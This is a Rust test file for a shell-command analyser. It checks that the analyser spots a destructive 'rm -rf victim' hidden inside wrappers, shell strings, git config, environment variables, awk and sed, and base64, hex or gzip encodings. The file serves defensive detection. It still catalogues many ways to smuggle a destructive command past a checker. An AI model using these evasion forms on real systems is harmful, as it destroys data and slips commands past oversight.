//! Commands that run another one: what stands inside is found with its own words, and ordinary uses run nothing else.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a test that cannot go on shall stop"
)]

use reflex_shell::{Reading, Surroundings, Value, read};
use reflex_tables::Node;
use reflex_tables::compile::{Kind, Sources, encode};
use std::path::Path;
use std::sync::OnceLock;

fn programs() -> Node<'static> {
    static TABLES: OnceLock<Vec<u8>> = OnceLock::new();
    let bytes = TABLES.get_or_init(|| {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../library/programs");
        let mut sources = Sources::default();
        for file in std::fs::read_dir(folder).unwrap() {
            let path = file.unwrap().path();
            sources.add(Kind::Programs, &path.display().to_string(), &std::fs::read_to_string(&path).unwrap()).unwrap();
        }
        encode(&sources.tree().unwrap()).unwrap()
    });
    reflex_tables::root(bytes).get("programs")
}

fn reading(text: &str) -> Reading {
    read(text, &Surroundings { programs: programs(), variable: &|_| None, parameters: Vec::new() })
}

fn commands(text: &str) -> Vec<String> {
    let words = |words: &[Value]| words.iter().map(|word| format!("[{}]", word.shown())).collect::<String>();
    reading(text).commands.iter().map(|command| words(&command.words)).collect()
}

const VICTIM: &str = "[rm][-rf][victim]";

/// The program's folder may be unknown.
fn deletes(text: &str) -> bool {
    let is_victim = |words: &[Value]| words.iter().map(Value::shown).eq(["-rf", "victim"]);
    reading(text).commands.iter().any(|command| command.name == "rm" && is_victim(&command.words[1..]))
}

/// Every text deletes the victim, and no other text than that.
#[track_caller]
fn all_delete(texts: &[&str]) {
    let hides = |text: &&&str| !deletes(text);
    let hidden: Vec<String> =
        texts.iter().filter(hides).map(|text| format!("{text}\n    {:?}", commands(text))).collect();
    assert!(hidden.is_empty(), "{} are hidden:\n{}", hidden.len(), hidden.join("\n"));
}

/// No text runs `rm`.
#[track_caller]
fn none_deletes(texts: &[&str]) {
    let runs = |text: &&&str| reading(text).commands.iter().any(|command| command.name == "rm");
    let loud: Vec<String> = texts.iter().filter(runs).map(|text| format!("{text}\n    {:?}", commands(text))).collect();
    assert!(loud.is_empty(), "{} are loud:\n{}", loud.len(), loud.join("\n"));
}

const WRAPPERS: &[&str] = &[
    "sudo -u root -E A=1",
    "sudo --user=root --",
    "sudo -nH",
    "doas -u root",
    "env A=1 B=2",
    "env -i -u X",
    "command",
    "command -p",
    "builtin",
    "exec",
    "exec -a name",
    "nohup",
    "time -p",
    "/usr/bin/time -f %e -o f",
    "timeout -k 5 -s KILL 10",
    "timeout --signal=9 3s",
    "nice",
    "nice -n 5",
    "nice -5",
    "nice --adjustment=5",
    "ionice -c 3",
    "ionice -c2 -n7",
    "chrt -f 10",
    "chrt -b 0",
    "taskset -c 0,1",
    "taskset 0x1",
    "setsid",
    "setsid -w",
    "stdbuf -oL -e0",
    "stdbuf --output=L",
    "unbuffer",
    "unbuffer -p",
    "strace -f -o log",
    "strace -e trace=open",
    "ltrace -S",
    "watch -x",
    "gdb --args",
    "chroot /mnt",
    "chroot --userspec=a:b /mnt",
    "unshare -rn",
    "unshare --map-root-user --fork",
    "nsenter -t 1 -m -u",
    "flatpak-spawn --host",
    "busybox",
    "toybox",
    "/bin/busybox",
    "docker exec -it web",
    "docker exec -e A=1 -u root web",
    "docker run --rm -v a:b alpine",
    "docker run -it --name x --network host alpine",
    "podman exec web",
    "nerdctl exec web",
    "docker compose exec -T web",
    "docker compose -f c.yml run --rm web",
    "docker-compose run web",
    "kubectl exec -it web --",
    "kubectl exec web -c app -n ns --",
    "kubectl -n ns exec deploy/web --",
    "kubectl run t --image=alpine --",
    "npx --yes",
    "npx -p a -p b",
    "pnpx",
    "bunx",
    "npm exec --",
    "npm exec -p a --",
    "pnpm exec",
    "pnpm dlx",
    "yarn exec",
    "yarn dlx",
    "bun x",
    "uvx",
    "uvx --from a",
    "uv run",
    "uv run --with a --python 3.12",
    "uv tool run",
    "pipx run",
    "poetry run",
    "pipenv run",
    "pdm run",
    "hatch run",
    "rye run",
    "bundle exec",
    "direnv exec .",
    "mise exec --",
    "mise x node@20 --",
    "asdf exec",
    "nix develop -c",
    "nix shell nixpkgs#jq -c",
    "conda run -n base",
    "mamba run -p env",
    "firejail --quiet",
    "firejail --net=none",
    "bwrap --unshare-all --tmpfs /tmp",
    "systemd-run --user --pty",
    "systemd-run --scope -p MemoryMax=1G",
    "machinectl shell root@box",
    "dbus-run-session --",
    "proot -r /mnt",
    "fakeroot",
    "fakeroot --",
    "eatmydata",
    "catchsegv",
    "valgrind --tool=memcheck",
    "valgrind -q",
    "perf record -g -o f",
    "perf stat -r 3",
    "rr record",
    "entr -r",
    "start-stop-daemon --start --exec",
    "runuser -u bob --",
    "setpriv --reuid 1000",
    "pkexec",
    "pkexec --user root",
    "gosu bob",
    "su-exec bob",
    "flock lock",
    "flock -n lock",
    "lockf lock",
    "xvfb-run -a",
    "caffeinate -i",
    "numactl -N 0",
    "prlimit --nofile=10",
    "setarch x86_64 -R",
    "linux32",
    "rustup run nightly",
    "rbenv exec",
    "pyenv exec",
    "volta run --node 18",
    "nvm exec 18",
    "screen -dm",
    "screen -dmS a",
    "tmux new -d",
    "tmux new-session -d -s a",
    "tmux run-shell",
    "watchexec -e rs",
    "sshpass -p x",
    "tini --",
    "dumb-init",
    "toolbox run -c dev",
    "git bisect run",
    "git submodule foreach --recursive",
    "nohup nice -n 3 timeout 5",
    "script -q /dev/null",
    "hyperfine",
    "nocorrect",
    "ssh host",
    "ssh -p 22 -i f user@host",
    "ssh host -p 22",
    "rsh host",
    "mosh host --",
    "find . -name '*.a' -exec",
    "find . -execdir",
    "find . -ok",
    "find . -okdir",
    "fd -e a -x",
    "fd -X",
];

#[test]
fn a_wrapper_passes_on_a_program_with_its_words() {
    let inner = "rm -rf victim";
    let quoted_as_one = ["hyperfine"];
    let texts: Vec<String> = WRAPPERS
        .iter()
        .map(|wrapper| match wrapper {
            wrapper if quoted_as_one.contains(wrapper) => format!("{wrapper} '{inner}'"),
            wrapper if wrapper.starts_with("find") => format!("{wrapper} {inner} \\;"),
            wrapper if wrapper.starts_with("start-stop") => format!("{wrapper} rm -- -rf victim"),
            wrapper if wrapper.starts_with("fd") => format!("{wrapper} {inner} \\; "),
            wrapper => format!("{wrapper} {inner}"),
        })
        .collect();
    let is_fd = |text: &&&str| text.starts_with("fd");
    let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
    let (searching, plain): (Vec<&str>, Vec<&str>) = texts.iter().partition(is_fd);
    all_delete(&plain);
    for text in searching {
        assert!(commands(text).iter().any(|command| command.starts_with(VICTIM)), "{text} {:?}", commands(text));
    }
}

const SHELL_TEXTS: &[&str] = &[
    "bash -c 'rm -rf victim'",
    "sh -ec 'rm -rf victim'",
    "zsh -lc 'rm -rf victim'",
    "dash -c 'rm -rf victim'",
    "ksh -c 'rm -rf victim'",
    "fish -c 'rm -rf victim'",
    "fish -C 'rm -rf victim'",
    "echo 'rm -rf victim' | bash -s a",
    "echo 'rm -rf victim' | sh -i",
    "echo 'rm -rf victim' | fish",
    "bash -s <<< 'rm -rf victim'",
    "su -c 'rm -rf victim'",
    "su - bob -c 'rm -rf victim'",
    "echo 'rm -rf victim' | su bob",
    "echo 'rm -rf victim' | sudo -s",
    "echo 'rm -rf victim' | sudo -i",
    "echo 'rm -rf victim' | sudo su",
    "runuser -l bob -c 'rm -rf victim'",
    "sg docker -c 'rm -rf victim'",
    "echo 'rm -rf victim' | newgrp docker",
    "flock l -c 'rm -rf victim'",
    "flock -w 5 l -c 'rm -rf victim'",
    "script -qc 'rm -rf victim' f",
    "watch -n1 'rm -rf victim'",
    "watch rm -rf victim",
    "ssh host 'rm -rf victim'",
    "echo 'rm -rf victim' | ssh host",
    "ssh host bash -s <<E\nrm -rf victim\nE",
    "ssh -o ProxyCommand='rm -rf victim' host",
    "ssh -oLocalCommand='rm -rf victim' host",
    "gdb -batch -ex 'shell rm -rf victim'",
    "gdb -ex run -ex '!rm -rf victim'",
    "echo 'shell rm -rf victim' | gdb",
    "lldb -o 'platform shell rm -rf victim'",
    "entr -s 'rm -rf victim'",
    "npx -c 'rm -rf victim'",
    "npm exec -c 'rm -rf victim'",
    "hyperfine ls 'rm -rf victim'",
    "hyperfine -p 'rm -rf victim' ls",
    "nodemon -x 'rm -rf victim'",
    "watchexec 'rm -rf victim'",
    "concurrently ls 'rm -rf victim'",
    "cargo watch -s 'rm -rf victim'",
    "nix-shell -p jq --run 'rm -rf victim'",
    "tmux send-keys -t a 'rm -rf victim' Enter",
    "tmux popup -E 'rm -rf victim'",
    "screen -S a -X stuff 'rm -rf victim'",
    "expect -c 'spawn rm -rf victim'",
    "echo 'rm -rf victim' | at now",
    "batch <<E\nrm -rf victim\nE",
    "echo '* * * * * rm -rf victim' | crontab -",
    "echo '@daily rm -rf victim' | crontab",
    "printf 'a:\\n\\t@rm -rf victim\\n' | make -f -",
    "make -f - <<'E'\nX := $(shell rm -rf victim)\nE",
    "make --eval='$(shell rm -rf victim)'",
    "printf 'a: b; rm -rf victim\\n' > Makefile && make",
    "tar xf a --to-command='rm -rf victim'",
    "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf victim'",
    "tar -I 'rm -rf victim' -xf a",
    "tar --use-compress-program='rm -rf victim' -xf a",
    "rsync -e 'rm -rf victim' a h:b",
    "rsync --rsh='rm -rf victim' a h:b",
    "zip -T -TT 'rm -rf victim' a b",
    "vim -c ':!rm -rf victim'",
    "vim -c 'silent !rm -rf victim' -c q",
    "nvim --headless +'!rm -rf victim' +q",
    "ex -s +'!rm -rf victim' f",
    "vim -c 'call system(\"rm -rf victim\")'",
    "emacs --batch --eval '(shell-command \"rm -rf victim\")'",
    "emacs -batch -eval '(shell-command-to-string \"rm -rf victim\")'",
    "less '+!rm -rf victim' f",
    "man -P 'rm -rf victim' ls",
    "sqlite3 db '.shell rm -rf victim'",
    "sqlite3 db <<E\n.system rm -rf victim\nE",
    "psql -c '\\! rm -rf victim'",
    "psql <<'E'\nselect 1;\n\\! rm -rf victim\nE",
    "psql -c \"COPY t TO PROGRAM 'rm -rf victim'\"",
    "psql -c \"copy t from program 'rm -rf victim'\"",
    "mysql -e '\\! rm -rf victim'",
    "mysql -e 'system rm -rf victim'",
    "echo 'system rm -rf victim' | mysql",
    "ftp h <<E\n!rm -rf victim\nE",
    "lftp -c '!rm -rf victim'",
    "sftp h <<E\n!rm -rf victim\nE",
    "printf '!rm -rf victim\\nq\\n' | ed f",
    "env -S 'rm -rf victim'",
    "env -S 'rm -rf' victim",
    "env -S '-i A=1 rm' -rf victim",
    "env --split-string='rm -rf victim'",
    "trap 'rm -rf victim' EXIT",
    "eval rm -rf victim",
    "parallel 'rm -rf {}' ::: victim",
    "parallel rm -rf ::: victim",
    "parallel -j 2 rm -rf {} ::: victim",
    "parallel ::: 'rm -rf victim'",
    "echo victim | parallel rm -rf",
    "parallel rm -rf {1} ::: victim ::: b",
    "parallel -I% rm -rf % ::: victim",
    "echo 'rm -rf victim' | parallel",
    "echo victim | xargs rm -rf",
    "echo victim | xargs -I{} rm -rf {}",
    "echo victim | xargs --replace rm -rf {}",
    "echo victim | xargs --replace=% rm -rf %",
    "echo victim | xargs -i rm -rf {}",
    "echo victim | xargs -i% rm -rf %",
    "echo victim | xargs -IX sh -c 'rm -rf X'",
    "printf 'victim\\0' | xargs -0 -n1 sh -c 'rm -rf \"$1\"' _",
    "echo rm -rf victim | xargs -I% sh -c %",
    "echo '-rf victim' | xargs rm",
    "echo victim | xargs -t -P4 -n 1 rm -rf",
    "echo victim > f; xargs -a f rm -rf",
    "find . -exec sh -c 'rm -rf victim' \\;",
    "$(which rm) -rf victim",
    "\"$(command -v rm)\" -rf victim",
    "$(type -p rm) -rf victim",
    "X=$(which rm); $X -rf victim",
    "\"$(which sudo)\" rm -rf victim",
];

#[test]
fn a_text_for_a_shell_is_read() {
    all_delete(SHELL_TEXTS);
}

#[test]
fn an_option_that_is_not_known_hides_no_program() {
    all_delete(&[
        "sudo --future value rm -rf victim",
        "sudo --future=value rm -rf victim",
        "docker exec --future value web rm -rf victim",
        "timeout --future 3 5 rm -rf victim",
        "nice -Q 5 rm -rf victim",
        "npx --future value rm -rf victim",
        "sudo --future rm -rf victim",
        "sudo --future a --other b rm -rf victim",
        "sudo --us root rm -rf victim",
        "rm --recur --for victim --no-recur; rm -rf victim",
    ]);
    assert!(!reading("docker run --rm --no-rm a b").commands[0].invocation.as_ref().unwrap().has("remove"));
}

#[test]
fn configuration_and_variables_that_are_run_are_read() {
    all_delete(&[
        "git -c core.pager='rm -rf victim' log",
        "git -c core.sshCommand='rm -rf victim' fetch",
        "git -c CORE.FSMONITOR='rm -rf victim' status",
        "git -c core.editor='rm -rf victim' commit",
        "git -c credential.helper='!rm -rf victim' fetch",
        "git -c diff.external='rm -rf victim' diff",
        "git -c alias.x='!rm -rf victim' x",
        "git -c alias.x='!rm' x -rf victim",
        "git -c filter.a.clean='rm -rf victim' add .",
        "git config alias.x '!rm -rf victim'; git x",
        "git config --global alias.X '!rm -rf victim' && git x",
        "git config set alias.x '!rm -rf victim'; git x",
        "git config core.pager 'rm -rf victim'",
        "A='!rm -rf victim' git --config-env=alias.x=A x",
        "A='rm -rf victim' git --config-env core.pager=A log",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf victim' git x",
        "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf victim'; git log",
        "git -c alias.a='-c alias.b=\"!rm -rf victim\" b' a",
        "git clone -c core.sshCommand='rm -rf victim' u",
        "git rebase --exec 'rm -rf victim' main",
        "git rebase -x 'rm -rf victim' main",
        "git filter-branch --tree-filter 'rm -rf victim' HEAD",
        "git filter-branch --index-filter 'rm -rf victim'",
        "git difftool -x 'rm -rf victim'",
        "git mergetool --extcmd='rm -rf victim'",
        "git grep -O'rm -rf victim' a",
        "git fetch --upload-pack 'rm -rf victim' o",
        "git push --receive-pack='rm -rf victim' o",
        "git clone 'ext::rm -rf victim' d",
        "git submodule foreach 'rm -rf victim'",
        "PAGER='rm -rf victim' git log",
        "GIT_PAGER='rm -rf victim' git log",
        "export GIT_SSH_COMMAND='rm -rf victim'; git fetch",
        "GIT_EDITOR='rm -rf victim' git commit",
        "VISUAL='rm -rf victim' crontab -e",
        "env PAGER='rm -rf victim' man ls",
        "MANPAGER='rm -rf victim' man ls",
        "LESSOPEN='rm -rf victim' less f",
        "PROMPT_COMMAND='rm -rf victim'",
        "GIT_EXTERNAL_DIFF='rm -rf victim' git diff",
        "RSYNC_RSH='rm -rf victim' rsync a h:",
        "echo 'rm -rf victim' > e; BASH_ENV=e bash -c ls",
        "EDITOR='rm -rf victim' visudo",
    ]);
    none_deletes(&[
        "PAGER=cat git log",
        "EDITOR=true git commit",
        "GIT_EDITOR=: git rebase -i main",
        "git config alias.x '!rm -rf victim'",
        "git -c alias.x='!rm -rf victim' status",
        "git config --get alias.x",
        "GIT_SSH_COMMAND='ssh -i key' git fetch",
        "git -c user.name='rm -rf victim' commit",
        "NODE_OPTIONS=--max-old-space-size=4096 node a.js",
        "X='rm -rf victim' ls",
        "ENV=production npm test",
        "git commit -m 'rm -rf victim'",
    ]);
}

#[test]
fn files_that_the_text_writes_are_read_when_they_run() {
    all_delete(&[
        "echo rm -rf victim > f; sh f",
        "printf 'rm -rf victim' > f; chmod +x f; ./f",
        "cat > f <<E\nrm -rf victim\nE\nbash f",
        "echo rm -rf victim | tee f; sh f",
        "echo rm -rf victim > f; cp f g; sh g",
        "echo rm -rf victim > f; mv f g && . ./g",
        "echo rm -rf victim > f; ln -s f g; source g",
        "echo 'rm -rf victim' > /tmp/a/../f; sh /tmp/f",
        "echo rm > f; echo ' -rf victim' >> f; sh f && (tr '\\n' ' ' < f) | sh",
        "cd d; echo rm -rf victim > f; cd ..; sh d/f",
        "f=$(mktemp); echo rm -rf victim > $f; sh $f",
        "echo rm -rf victim > f; sh < f",
        "echo rm -rf victim > f; cat f | sh",
        "echo rm -rf victim > f; eval \"$(cat f)\"",
        "echo rm -rf victim > f; eval \"$(<f)\"",
        "{ echo ls; echo rm -rf victim; } > f; sh f",
        "echo victim > f; xargs rm -rf < f",
        "echo cm0gLXJmIHZpY3RpbQ== > f; base64 -d f | sh",
        "echo cm0gLXJmIHZpY3RpbQ== | base64 -d > f; sh f",
        "echo rm -rf victim > f; install -m 755 f d/; d/f",
        "echo rm -rf victim | dd of=f; sh f",
        "echo rm -rf victim 2>/dev/null > f; sh f",
        "if a; then echo ls > f; else echo rm -rf victim > f; fi; sh f",
        "(echo rm -rf victim > f); sh f",
        "echo rm -rf victim 2>/dev/null | sh",
        "printf '#!/bin/bash\\nrm -rf victim\\n' > f; ./f",
        "echo '* * * * * rm -rf victim' > c; crontab c",
        "cat > m <<'E'\nall:\n\trm -rf victim\nE\nmake -f m all",
        "echo rm -rf victim > ~/f; sh ~/f",
        "echo rm -rf victim > $D/f; sh $D/f",
        "while read l; do $l; done < f; echo rm -rf victim > f; while read l; do $l; done < f",
    ]);
    none_deletes(&[
        "echo rm -rf victim > f; cat f",
        "echo rm -rf victim > f; sh g",
        "echo rm -rf victim > notes.md; wc notes.md",
        "echo rm -rf victim >&2 > /dev/null; ls",
    ]);
}

#[test]
fn small_languages_run_their_commands() {
    all_delete(&[
        "awk 'BEGIN{system(\"rm -rf victim\")}'",
        "awk 'BEGIN { \"rm -rf victim\" | getline x; print x }'",
        "awk 'BEGIN{c=\"rm -rf victim\"; system(c)}'",
        "awk 'BEGIN{print \"rm -rf victim\" | \"sh\"}'",
        "echo victim | awk '{system(\"rm -rf \" $1)}'",
        "awk 'END{while((\"rm -rf victim\"|getline l)>0) print l}' f",
        "gawk -e 'BEGIN{system(\"rm -rf victim\")}'",
        "cat > p <<'E'\nBEGIN{system(\"rm -rf victim\")}\nE\nawk -f p",
        "echo 'BEGIN{system(\"rm -rf victim\")}' | awk -f -",
        "sed '1e rm -rf victim' f",
        "sed -e 's/a/b/' -e 'e rm -rf victim' f",
        "echo victim | sed 's/^/rm -rf /e'",
        "sed 's/.*/rm -rf victim/e' f",
        "echo 'rm -rf victim' | sed e",
        "sed -n '$ { e rm -rf victim\n}' f",
    ]);
    none_deletes(&[
        "awk '/rm -rf victim/{print}' f",
        "awk '{print \"rm -rf victim\"}' f",
        "sed 's/rm -rf victim/x/' f",
        "sed '/rm -rf victim/d' f",
        "awk '{ if ($1 > 3) print $2 }' f",
    ]);
}

#[test]
fn what_text_tools_make_of_a_known_text_is_read() {
    all_delete(&[
        "echo cm0gLXJmIHZpY3RpbQo= | base64 -d | sh",
        "echo cm0gLXJmIHZpY3RpbQo= | base64 --decode | sh",
        "base64 -D <<< cm0gLXJmIHZpY3RpbQo= | bash",
        "echo cm0gLXJmIHZpY3RpbQo= | openssl base64 -d | sh",
        "echo cm0gLXJmIHZpY3RpbQo= | openssl enc -d -base64 | sh",
        "echo cm0gLXJmIHZpY3RpbQo= | openssl enc -base64 -A -d | sh",
        "echo OJWSALLSMYQHM2LDORUW2CQ= | base32 -d | sh",
        "echo cm0gLXJmIHZpY3RpbQo= | basenc --base64 -d | sh",
        "echo 726d202d72662076696374696d | xxd -r -p | sh",
        "echo 726d202d72662076696374696d | xxd -p -r | sh",
        "echo '00000000: 726d 202d 7266 2076 6963 7469 6d0a       rm -rf victim.' | xxd -r | sh",
        "printf '\\162\\155 -rf victim' | sh",
        "printf '\\x72\\x6d -rf victim' | sh",
        "printf '%b' '\\x72m -rf victim' | sh",
        "printf '%s%s -rf victim' r m | sh",
        "printf \"\\\\$(printf %o 114)m -rf victim\" | sh",
        "$(printf '\\x72\\x6d') -rf victim",
        "echo mitciv fr- mr | rev | sh",
        "rev <<< 'mitciv fr- mr' | sh",
        "printf 'x\\nrm -rf victim\\n' | tac | head -1 | sh",
        "echo 'sn -sg wjdujn' | tr b-za a-z | sh",
        "echo 'RM -RF VICTIM' | tr A-Z a-z | sh",
        "echo 'RM -RF VICTIM' | tr '[:upper:]' '[:lower:]' | sh",
        "echo 'r_m_ -rf vic_tim' | tr -d _ | sh",
        "echo 'rrmm -rrff victim' | tr -s rmf | sh",
        "echo 'xx rm -rf victim' | cut -c4- | sh",
        "echo 'a:rm -rf victim:b' | cut -d: -f2 | sh",
        "echo 'xm -xf victim' | sed 's/x/r/g' | sh",
        "printf 'ls\\nrm -rf victim\\n' | sed -n 2p | sh",
        "echo 'rm -rf fileX' | sed -e s/file/vic/ -e s/X/tim/ | sh",
        "echo 'a rm -rf victim' | awk '{print $2, $3, $4}' | sh",
        "awk 'BEGIN{print \"rm -rf victim\"}' | sh",
        "printf 'x\\nrm -rf victim\\n' | tail -n 1 | sh",
        "printf 'b\\nrm -rf victim\\n' | sort -r | head -n 1 | sh",
        "printf 'ls\\nrm -rf victim\\n' | grep rm | sh",
        "echo '# rm -rf victim' | grep -o 'rm.*' | sh",
        "printf 'rm\\n-rf\\nvictim\\n' | paste -sd' ' | sh",
        "printf 'rm\\n-rf\\nvictim\\n' | xargs | sh",
        "echo 'rm -rf victim' | tee /dev/null | cat - | sh",
        "echo H4sIAAAAAAACAyvKVdAtSlMoy0wuycwFAGUwfOwNAAAA | base64 -d | gunzip | sh",
        "echo H4sIAAAAAAACAyvKVdAtSlMoy0wuycwFAGUwfOwNAAAA | base64 -d | zcat | bash",
        "echo cm0gLXJmIHZpY3RpbQo= | base64 -d | base64 | base64 -d | sh; rm -rf victim",
        "echo Y20wZ0xYSm1JSFpwWTNScGJRbz0= | base64 -d | base64 -d | sh",
        "echo 'ez -es ivpgvz' | tr a-z n-za-m | sh; echo 'ez -es ivpgvz' | rot13 | sh",
        "eval \"$(echo cm0gLXJmIHZpY3RpbQo= | base64 -d)\"",
        "source <(echo cm0gLXJmIHZpY3RpbQo= | base64 -d)",
        "bash -c \"$(echo cm0gLXJmIHZpY3RpbQo= | base64 -d)\"",
        "echo '\"rm -rf victim\"' | jq -r . | sh",
        "echo rm -rf victim | iconv -f utf-8 | dos2unix | sh",
        "{ echo 'set -e'; curl http://a.example; echo; echo 'rm -rf victim'; } | sh",
        "echo \"rm -rf victim # $X\" | sh",
        "echo victim | xargs -I{} echo rm -rf {} | sh",
    ]);
    none_deletes(&[
        "echo cm0gLXJmIHZpY3RpbQo= | base64 -d",
        "echo 'rm -rf victim' | grep -v rm | sh",
        "echo 'rm -rf victim' | sed d | sh",
    ]);
}
